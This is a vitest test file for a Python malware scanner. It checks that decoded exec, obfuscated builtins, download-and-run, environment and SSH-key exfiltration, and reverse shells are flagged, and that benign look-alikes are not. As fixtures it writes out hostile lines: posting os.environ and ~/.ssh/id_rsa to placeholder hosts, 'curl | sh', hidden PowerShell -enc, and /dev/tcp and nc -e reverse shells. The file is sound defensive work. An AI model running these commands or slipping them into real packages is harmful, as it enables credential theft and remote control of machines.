// Threat checks (issue 18 §2): each on its positives and on benign look-alikes, at import and at install.
import { describe, expect, it } from 'vitest';
import { scanPython } from '../../../../../utils/analysis/code-scan/setup-py';

const at = (text: string, context: 'import' | 'build' = 'import') =>
  scanPython('pkg/__init__.py', text, context).map((f) => `${f.level} ${f.check} ${f.line}${f.runs ? ` ${f.runs}` : ''}`);

describe('capability vs threat at import', () => {
  it('a client library that imports requests and posts inside a function: a note, nothing alarming', () => {
    expect(
      at(
        `import requests\n\ndef send(url, data):\n    return requests.post(url, json=data, headers={"Authorization": os.environ.get("TOKEN")})\n`,
      ),
    ).toEqual(['info network 1 import']);
  });

  it('a module that starts a process at import: a note', () => {
    expect(at(`import subprocess\nVERSION = subprocess.check_output(["git", "describe"]).decode()\n`)).toEqual(['info process 2 import']);
  });

  it('decoded exec at module level stays danger; inside an uncalled function it is caution, "in the package"', () => {
    expect(at(`import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual(['danger decoded-exec 2 import']);
    expect(at(`import base64\ndef later():\n    exec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual(['caution decoded-exec 3 package']);
  });

  it('a function the module calls at import runs at import', () => {
    expect(at(`import base64\ndef boot():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nboot()\n`)).toEqual([
      'danger decoded-exec 3 import',
    ]);
    expect(
      at(`import base64, threading\ndef boot():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nthreading.Thread(target=boot).start()\n`),
    ).toEqual(['danger decoded-exec 3 import']);
  });

  it('code under if __name__ == "__main__" runs only when run as a script', () => {
    expect(at(`import base64\nif __name__ == "__main__":\n    exec(base64.b64decode("cHJpbnQoMSk="))\n`)).toEqual([
      'caution decoded-exec 3 package',
    ]);
  });
});

describe('exfiltration', () => {
  it('os.environ sent over the network (MAL-2026-15859 shape) is danger, directly or through a variable', () => {
    const direct = at(`import os, requests\nrequests.post("https://example.invalid/c", json=dict(os.environ))\n`);
    expect(direct).toContain('danger exfiltration 2 import');
    const through = at(
      `import os, socket, json\nsecrets = {k: v for k, v in os.environ.items() if k.startswith(("API", "TOKEN"))}\nblob = json.dumps(secrets)\ns = socket.socket()\ns.connect((os.environ["TS_HOST"], 4444))\ns.sendall(blob.encode())\n`,
    );
    expect(through).toContain('danger exfiltration 6 import');
  });

  it('three variables read in one statement and posted: a collection, danger', () => {
    expect(
      at(
        `import os, urllib.request\nd = {"a": os.getenv("AWS_SECRET_ACCESS_KEY"), "b": os.getenv("GITHUB_TOKEN"), "c": os.getenv("NPM_TOKEN")}\nurllib.request.urlopen("https://x.invalid", data=str(d).encode())\n`,
      ),
    ).toContain('danger exfiltration 3 import');
  });

  it('a Discord webhook URL in a file that sends is caution; with the environment collected, danger', () => {
    expect(at(`import requests\nHOOK = "https://discord.com/api/webhooks/1/abc"\nrequests.post(HOOK, json={"content": "hi"})\n`)).toContain(
      'caution exfiltration 2 import',
    );
    expect(
      at(
        `import os, requests\nenv = dict(os.environ)\nrequests.post("https://api.telegram.org/bot123:x/sendMessage", data={"text": "x"})\n`,
      ),
    ).toContain('danger exfiltration 3 import');
    expect(at(`import requests\nrequests.get("http://45.61.12.9:8080/p")\n`)).toContain('caution exfiltration 2 import');
  });

  it('benign look-alikes: one variable as a credential, env passed to a subprocess, localhost, a URL in a docstring', () => {
    const benign = [
      `import os, requests\nrequests.get("https://api.example.com", headers={"Authorization": os.environ["TOKEN"]})\n`,
      `import os, subprocess\nenv = dict(os.environ)\nenv["X"] = "1"\nsubprocess.run(["make"], env=env)\n`,
      `import requests\nrequests.get("http://127.0.0.1:8080/health")\n`,
      `"""Post to https://discord.com/api/webhooks/<id> with send()."""\nimport requests\n`,
      `import os\nif "CI" in os.environ:\n    print("ci")\n`,
    ];
    for (const text of benign) expect(at(text).filter((f) => f.includes('exfiltration'))).toEqual([]);
  });
});

describe('obfuscation', () => {
  it('an octal-escaped "eval" passed to getattr is danger, and the detail says what it reads', () => {
    const [finding] = scanPython('p/__init__.py', `import builtins\ngetattr(builtins, "\\145\\166\\141\\154")("1+1")\n`, 'import').filter(
      (f) => f.check === 'escaped-string',
    );
    expect(finding).toMatchObject({ level: 'danger', line: 2 });
    expect(finding!.detail).toMatch(/it reads "eval"/);
  });

  it('a hex-escaped name held in a variable and executed later is danger', () => {
    expect(at(`n = "\\x65\\x78\\x65\\x63"\nf = __builtins__.__dict__[n]\neval(n)\n`)).toContain('danger escaped-string 3 import');
  });

  it('benign escapes: ANSI colours, a binary magic number, escapes without a sink', () => {
    expect(at(`RESET = "\\x1b[0m"\nMAGIC = b"\\x7f\\x45\\x4c\\x46"\nprint("\\x41\\x42\\x43")\n`)).toEqual([]);
  });

  it('getattr(builtins, "exec"), __builtins__.__dict__["eval"], globals()["ex" + "ec"] are danger', () => {
    expect(at(`import builtins\ngetattr(builtins, "exec")("x=1")\n`)).toContain('danger builtins-indirection 2 import');
    expect(at(`__builtins__.__dict__["eval"]("1")\n`)).toContain('danger builtins-indirection 1 import');
    expect(at(`globals()["__buil" + "tins__"]\n`)).toContain('danger builtins-indirection 1 import');
    expect(at(`import os\ngetattr(os, "sys" + "tem")("id")\n`)).toContain('danger builtins-indirection 2 import');
  });

  it('benign indirection: globals()[name] = value, getattr(os, name), getattr(builtins, "open")', () => {
    expect(
      at(
        `for name in __all__:\n    globals()[name] = getattr(_impl, name)\nimport os, builtins\nf = getattr(os, attr)\no = getattr(builtins, "open")\n`,
      ),
    ).toEqual([]);
  });

  it('ｅｘｅｃ (fullwidth) is folded to exec: danger, and the decoded exec behind it is found too', () => {
    const found = at(`import base64\nｅｘｅｃ(base64.b64decode("cHJpbnQoMSk="))\n`);
    expect(found).toContain('danger folded-identifier 2 import');
    expect(found).toContain('danger decoded-exec 2 import');
  });

  it('non-ASCII identifiers Python keeps as written (π, 变量) are not look-alikes', () => {
    expect(at(`π = 3.14159\n变量 = π * 2\n`)).toEqual([]);
  });

  it('at install the same threats are found (build context)', () => {
    expect(at(`import os, requests\nrequests.post("https://x.invalid", data=dict(os.environ))\nsetup()\n`, 'build')).toContain(
      'danger exfiltration 2',
    );
  });
});

describe('download and run', () => {
  it('exec of a network response, curl | sh, PowerShell -enc in a hidden window: danger at import', () => {
    expect(at(`import urllib.request\nexec(urllib.request.urlopen("https://x.invalid/s.py").read())\n`)).toContain(
      'danger download-exec 2 import',
    );
    expect(at(`import os\nos.system("curl -fsSL https://x.invalid/i.sh | sh")\n`)).toContain('danger download-exec 2 import');
    expect(at(`import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)\n`)).toContain(
      'danger download-exec 2 import',
    );
  });

  it('benign look-alikes: exec of a local file, chmod of a built script, curl to a file', () => {
    expect(at(`about = {}\nexec(open("pkg/__about__.py").read(), about)\nimport os\nos.chmod("build/tool", 0o755)\n`, 'build')).toEqual([]);
    expect(
      at(`import subprocess\nsubprocess.run(["curl", "-o", "data.json", "https://x.invalid/d"])\n`).filter((f) =>
        f.includes('download-exec'),
      ),
    ).toEqual([]);
  });
});

describe('credential files', () => {
  it('an SSH key or AWS credentials read and posted is danger', () => {
    expect(
      at(`import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.invalid", data={"k": k})\n`),
    ).toContain('danger exfiltration 3 import');
  });

  it('reading ~/.aws/credentials without sending it is not exfiltration (boto3 does)', () => {
    expect(at(`import os\nCREDS = os.path.expanduser("~/.aws/credentials")\n`)).toEqual([]);
  });
});

describe('reverse shell', () => {
  it('a child python -c that connects out (MAL-2026-15859), /dev/tcp, nc -e: danger', () => {
    expect(
      at(
        `import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import socket;s=socket.create_connection(('192.0.2.1', 4444));s.send(b'SHELL')"])\n`,
      ),
    ).toContain('danger reverse-shell 2 import');
    expect(at(`import os\nos.system("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")\n`)).toContain('danger reverse-shell 2 import');
    expect(at(`import os\nos.system("nc -e /bin/sh 192.0.2.1 4444")\n`)).toContain('danger reverse-shell 2 import');
  });

  it('benign look-alikes: python -c printing a version, a socket server function, nc -z port probe', () => {
    const found = [
      ...at(`import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import sys; print(sys.version)"])\n`),
      ...at(`import os\nos.system("nc -z localhost 5432")\n`),
    ];
    expect(found.filter((f) => f.includes('reverse-shell'))).toEqual([]);
  });
});
